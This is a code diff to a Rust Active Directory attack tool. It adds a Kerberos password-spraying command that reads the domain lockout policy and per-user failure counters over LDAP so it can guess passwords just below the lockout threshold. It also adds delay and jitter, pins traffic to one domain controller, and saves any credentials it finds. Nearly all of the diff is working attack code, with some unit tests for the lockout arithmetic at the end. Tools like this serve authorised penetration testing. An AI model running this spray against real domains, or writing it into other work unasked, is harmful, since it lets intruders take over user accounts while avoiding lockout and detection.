@@ -1,13 +1,432 @@
+use std::{collections::HashMap, path::PathBuf, time::Duration as StdDuration};
+
+use chrono::{DateTime, Duration, Utc};
 use clap::Args;
-use crate::{app::App, cli::commands::Command};
+use ldap3::SearchEntry;
+
+use crate::{
+    app::App,
+    cli::commands::Command,
+    data::{credential::AuthMethod, AuthData, Credential, CredentialType, DomainController},
+    kerberos::{
+        asreq::{as_rep_matches_key, build_as_req, pa_enc_timestamp, password_key, send_as_req_via, AsReply},
+        error::{
+            error_code_name, KDC_ERR_CLIENT_REVOKED, KDC_ERR_C_PRINCIPAL_UNKNOWN, KDC_ERR_KEY_EXPIRED,
+            KDC_ERR_PREAUTH_FAILED,
+        },
+        tgs::random_bytes,
+        transport::KdcTransport,
+        Etype,
+    },
+    utils::{
+        ldap_operations::{filetime_to_datetime, sam_account_name},
+        ldap_session::LdapSession,
+    },
+};
+
+/// Enabled user accounts
+const ENABLED_USERS_FILTER: &str = "(&(samAccountType=805306368)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))";
 
 #[derive(Debug, Args, Clone)]
 pub struct BruteArgs {
+    /// File with one username per line (defaults to every enabled user in LDAP)
+    #[arg(short, long)]
+    pub users_file: Option<PathBuf>,
+
+    /// Single password to spray
+    #[arg(short, long, conflicts_with = "passwords_file", required_unless_present = "passwords_file")]
+    pub password: Option<String>,
+
+    /// File with one password per line, each password is sprayed against every user before the next one
+    #[arg(long)]
+    pub passwords_file: Option<PathBuf>,
+
+    /// Failed attempts kept between a user and the lockout threshold
+    #[arg(long, default_value_t = 2)]
+    pub safety_margin: u32,
+
+    /// Lockout threshold to assume instead of reading the domain policy (0 when lockout is disabled).
+    /// Required when no credential is in use.
+    #[arg(long)]
+    pub lockout_threshold: Option<u32>,
+
+    /// Delay between attempts in milliseconds
+    #[arg(long, default_value_t = 0)]
+    pub delay: u64,
+
+    /// Random extra delay between attempts, up to this many milliseconds
+    #[arg(long, default_value_t = 0)]
+    pub jitter: u64,
+
+    /// Encryption type of the pre-authentication timestamp
+    #[arg(short, long, value_enum, default_value_t = Etype::Rc4)]
+    pub etype: Etype,
+
+    /// Authentication protocol for LDAP
+    #[arg(long, value_enum, default_value_t = AuthMethod::Auto)]
+    pub auth: AuthMethod,
+}
+
+/// Account lockout policy of the domain
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct LockoutPolicy {
+    /// Failed attempts before an account is locked out, 0 when lockout is disabled
+    pub threshold: u32,
+    /// Time after the last failed attempt when the counter is reset, zero when unknown
+    pub observation_window: Duration,
+}
+
+impl LockoutPolicy {
+    fn from_entry(entry: &SearchEntry) -> Self {
+        let attr = |name: &str| entry.attrs.get(name).and_then(|v| v.first()).and_then(|v| v.parse::<i64>().ok());
+        LockoutPolicy {
+            threshold: attr("lockoutThreshold").unwrap_or(0) as u32,
+            // Stored as a negative interval of 100ns units
+            observation_window: Duration::milliseconds(attr("lockOutObservationWindow").unwrap_or(0).abs() / 10_000),
+        }
+    }
+
+    /// Attempts left for a user before reaching `threshold - margin` failures, None when unlimited.
+    /// The counter of a user is considered reset once the observation window passed since the last failure,
+    /// never when the window is unknown.
+    pub fn remaining_attempts(&self, user: &SprayTarget, margin: u32, now: DateTime<Utc>) -> Option<u32> {
+        if self.threshold == 0 {
+            return None;
+        }
+        let window_known = self.observation_window > Duration::zero();
+        let bad_pwd_count = match user.bad_password_time {
+            Some(time) if window_known && now - time >= self.observation_window => 0,
+            _ => user.bad_pwd_count,
+        };
+        Some(self.threshold.saturating_sub(margin).saturating_sub(bad_pwd_count))
+    }
+}
+
+/// A user being sprayed and its failed attempt counter
+#[derive(Debug, Clone, Default)]
+pub struct SprayTarget {
+    pub username: String,
+    pub bad_pwd_count: u32,
+    pub bad_password_time: Option<DateTime<Utc>>,
+}
+
+enum AttemptResult {
+    Valid,
+    Expired,
+    Invalid,
+    UnknownUser,
+    Revoked,
+}
 
+fn read_lines(path: &PathBuf) -> Result<Vec<String>, String> {
+    let content = std::fs::read_to_string(path).map_err(|e| e.to_string())?;
+    Ok(content
+        .lines()
+        .map(|l| l.trim_end_matches('\r').to_string())
+        .filter(|l| !l.is_empty())
+        .collect())
+}
+
+fn jitter_millis(max: u64) -> u64 {
+    if max == 0 {
+        return 0;
+    }
+    let bytes = random_bytes(8);
+    let random = u64::from_le_bytes(bytes[..8].try_into().unwrap_or_default());
+    random % (max + 1)
+}
+
+impl BruteArgs {
+    fn passwords(&self) -> Result<Vec<String>, String> {
+        match (&self.password, &self.passwords_file) {
+            (Some(password), _) => Ok(vec![password.clone()]),
+            (None, Some(path)) => read_lines(path),
+            (None, None) => Err("Please pass a --password or --passwords-file".to_string()),
+        }
+    }
+
+    /// Read the lockout policy and the failed attempt counters of every enabled user.
+    /// badPwdCount isn't replicated, it is read from the DC the spray is pinned to.
+    async fn read_lockout_state(
+        &self,
+        ldap: &mut LdapSession,
+    ) -> Result<(LockoutPolicy, HashMap<String, SprayTarget>), String> {
+        let policy = ldap
+            .search("(objectClass=domainDNS)", vec!["lockoutThreshold", "lockOutObservationWindow"])
+            .await?
+            .first()
+            .map(LockoutPolicy::from_entry)
+            .ok_or("Domain object not found".to_string())?;
+
+        let entries = ldap
+            .search(ENABLED_USERS_FILTER, vec!["sAMAccountName", "badPwdCount", "badPasswordTime"])
+            .await?;
+
+        let attr = |entry: &SearchEntry, name: &str| entry.attrs.get(name).and_then(|v| v.first()).cloned();
+        let users = entries
+            .iter()
+            .filter_map(|entry| {
+                let username = attr(entry, "sAMAccountName")?;
+                let target = SprayTarget {
+                    bad_pwd_count: attr(entry, "badPwdCount").and_then(|v| v.parse().ok()).unwrap_or(0),
+                    bad_password_time: attr(entry, "badPasswordTime")
+                        .and_then(|v| v.parse::<i64>().ok())
+                        .and_then(|v| filetime_to_datetime(v.max(0) as u64)),
+                    username: username.clone(),
+                };
+                Some((username.to_lowercase(), target))
+            })
+            .collect();
+
+        Ok((policy, users))
+    }
+
+    async fn attempt(
+        &self,
+        dc: &DomainController,
+        transport: &KdcTransport,
+        username: &str,
+        password: &str,
+    ) -> Result<AttemptResult, String> {
+        let realm = dc.domain_name.to_uppercase();
+        let etype: i32 = self.etype.into();
+        let key = password_key(etype, &realm, username, password)?;
+        let now = dc.now();
+        let as_req = build_as_req(&realm, username, &[etype], vec![pa_enc_timestamp(etype, &key, now)?], now);
+
+        match send_as_req_via(transport, &as_req).await? {
+            // Accounts without pre-authentication get an AS-REP anyway, only trust it if the key matches
+            AsReply::AsRep(as_rep) if as_rep_matches_key(&as_rep, etype, &key) => Ok(AttemptResult::Valid),
+            AsReply::AsRep(_) => Ok(AttemptResult::Invalid),
+            AsReply::Error(e) => match e.error_code {
+                KDC_ERR_PREAUTH_FAILED => Ok(AttemptResult::Invalid),
+                KDC_ERR_KEY_EXPIRED => Ok(AttemptResult::Expired),
+                KDC_ERR_C_PRINCIPAL_UNKNOWN => Ok(AttemptResult::UnknownUser),
+                KDC_ERR_CLIENT_REVOKED => Ok(AttemptResult::Revoked),
+                code => Err(format!("{}: {} ({})", username, error_code_name(code), code)),
+            },
+        }
+    }
+
+    fn store_hit(&self, app: &mut App, dc: &DomainController, username: &str, password: &str, expired: bool) -> Result<(), String> {
+        let auth_data = AuthData::Password(password.to_string());
+        if app.credential_storage().contains_auth_data(username, &auth_data) {
+            return Ok(());
+        }
+
+        let mut credential = Credential::new_password(username.to_string(), password.to_string(), "kerberos brute".to_string());
+        credential.credential_type = if username.ends_with('$') {
+            CredentialType::MachineAccount
+        } else {
+            CredentialType::DomainUser
+        };
+        credential.target_dc = Some(dc.domain_name.clone());
+        if expired {
+            credential.set_metadata("password_expired".to_string(), "true".to_string());
+        }
+        credential.mark_validated();
+        app.credential_storage().add_credential(credential)?;
+        Ok(())
+    }
 }
 
 impl Command for BruteArgs {
     async fn execute(&self, app: &mut App) -> Result<bool, String> {
+        let dc = app.get_current_dc()?;
+        let passwords = self.passwords()?;
+        let context = app.get_current_context().ok();
+
+        let (mut policy, mut directory) = match (&context, self.lockout_threshold) {
+            (Some(_), _) => {
+                let mut ldap = app.ldap_session(self.auth).await?;
+                self.read_lockout_state(&mut ldap).await?
+            }
+            (None, Some(_)) => (
+                LockoutPolicy {
+                    threshold: 0,
+                    observation_window: Duration::zero(),
+                },
+                HashMap::new(),
+            ),
+            (None, None) => {
+                return Err("The lockout policy can't be read without a credential, pass --lockout-threshold".to_string());
+            }
+        };
+        if let Some(threshold) = self.lockout_threshold {
+            policy.threshold = threshold;
+        }
+
+        if policy.threshold == 0 {
+            println!("Account lockout is disabled");
+        } else {
+            if policy.threshold <= self.safety_margin {
+                return Err(format!(
+                    "Lockout threshold is {}, a safety margin of {} leaves no attempts",
+                    policy.threshold, self.safety_margin
+                ));
+            }
+            println!(
+                "Lockout threshold {} attempts, observation window {} minutes, safety margin {}",
+                policy.threshold,
+                policy.observation_window.num_minutes(),
+                self.safety_margin
+            );
+        }
+
+        let mut targets: Vec<SprayTarget> = match &self.users_file {
+            Some(path) => read_lines(path)?
+                .iter()
+                .map(|username| {
+                    let username = sam_account_name(username.trim());
+                    directory.get(&username.to_lowercase()).cloned().unwrap_or(SprayTarget {
+                        username,
+                        ..Default::default()
+                    })
+                })
+                .collect(),
+            None if context.is_some() => directory.values().cloned().collect(),
+            None => return Err("Please use a credential or pass a --users-file".to_string()),
+        };
+        if targets.is_empty() {
+            println!("No users to spray");
+            return Ok(false);
+        }
+
+        // Failed attempts must land on the DC whose badPwdCount is read over LDAP,
+        // failing over to another KDC would count them where they aren't seen
+        let transport = KdcTransport::pinned_to_dc(&dc);
+        let mut hits = 0;
+        let mut first_attempt = true;
+        for (round, password) in passwords.iter().enumerate() {
+            // Counters may have changed since the last round (other logons, window expiry)
+            if round > 0 && policy.threshold > 0 {
+                if context.is_some() {
+                    let mut ldap = app.ldap_session(self.auth).await?;
+                    (_, directory) = self.read_lockout_state(&mut ldap).await?;
+                    for target in targets.iter_mut() {
+                        if let Some(fresh) = directory.get(&target.username.to_lowercase()) {
+                            target.bad_pwd_count = fresh.bad_pwd_count;
+                            target.bad_password_time = fresh.bad_password_time;
+                        }
+                    }
+                }
+            }
+
+            let mut sprayed = 0;
+            let mut remaining_targets = Vec::new();
+            for mut target in targets {
+                if policy.remaining_attempts(&target, self.safety_margin, Utc::now()) == Some(0) {
+                    println!("Skipping {} (badPwdCount {}/{})", target.username, target.bad_pwd_count, policy.threshold);
+                    remaining_targets.push(target);
+                    continue;
+                }
+
+                if !first_attempt {
+                    let wait = self.delay + jitter_millis(self.jitter);
+                    if wait > 0 {
+                        tokio::time::sleep(StdDuration::from_millis(wait)).await;
+                    }
+                }
+                first_attempt = false;
+                sprayed += 1;
+
+                match self.attempt(&dc, &transport, &target.username, password).await? {
+                    AttemptResult::Valid => {
+                        println!("[+] {}:{}", target.username, password);
+                        self.store_hit(app, &dc, &target.username, password, false)?;
+                        hits += 1;
+                    }
+                    AttemptResult::Expired => {
+                        println!("[+] {}:{} (password expired, change it with kerberos passwd)", target.username, password);
+                        self.store_hit(app, &dc, &target.username, password, true)?;
+                        hits += 1;
+                    }
+                    AttemptResult::Invalid => {
+                        target.bad_pwd_count += 1;
+                        target.bad_password_time = Some(Utc::now());
+                        remaining_targets.push(target);
+                    }
+                    AttemptResult::UnknownUser => {
+                        println!("{} doesn't exist", target.username);
+                    }
+                    AttemptResult::Revoked => {
+                        println!(
+                            "{} is locked out or disabled (KDC_ERR_CLIENT_REVOKED), stopping the spray",
+                            target.username
+                        );
+                        println!("{} valid credentials found", hits);
+                        return Ok(false);
+                    }
+                }
+            }
+            targets = remaining_targets;
+
+            if targets.is_empty() {
+                break;
+            }
+            if sprayed == 0 {
+                if policy.observation_window > Duration::zero() {
+                    println!(
+                        "Every user reached the safety margin, wait {} minutes for the observation window before spraying again",
+                        policy.observation_window.num_minutes()
+                    );
+                } else {
+                    println!("Every user reached the safety margin, stopping the spray");
+                }
+                break;
+            }
+        }
+
+        println!("{} valid credentials found", hits);
         Ok(false)
     }
-}
\ No newline at end of file
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    #[test]
+    fn test_remaining_attempts() {
+        let policy = LockoutPolicy {
+            threshold: 5,
+            observation_window: Duration::minutes(30),
+        };
+        let now = Utc::now();
+        let mut user = SprayTarget {
+            username: "ryan.naylor".to_string(),
+            bad_pwd_count: 2,
+            bad_password_time: Some(now - Duration::minutes(5)),
+        };
+        assert_eq!(policy.remaining_attempts(&user, 2, now), Some(1));
+
+        user.bad_pwd_count = 4;
+        assert_eq!(policy.remaining_attempts(&user, 2, now), Some(0));
+
+        // The counter is reset once the observation window passed
+        user.bad_password_time = Some(now - Duration::minutes(31));
+        assert_eq!(policy.remaining_attempts(&user, 2, now), Some(3));
+
+        let no_lockout = LockoutPolicy {
+            threshold: 0,
+            observation_window: Duration::zero(),
+        };
+        assert_eq!(no_lockout.remaining_attempts(&user, 2, now), None);
+    }
+
+    #[test]
+    fn test_remaining_attempts_unknown_window() {
+        // --lockout-threshold without a credential: failures counted locally never expire
+        let policy = LockoutPolicy {
+            threshold: 5,
+            observation_window: Duration::zero(),
+        };
+        let now = Utc::now();
+        let user = SprayTarget {
+            username: "ryan.naylor".to_string(),
+            bad_pwd_count: 3,
+            bad_password_time: Some(now - Duration::days(1)),
+        };
+        assert_eq!(policy.remaining_attempts(&user, 2, now), Some(0));
+    }
+}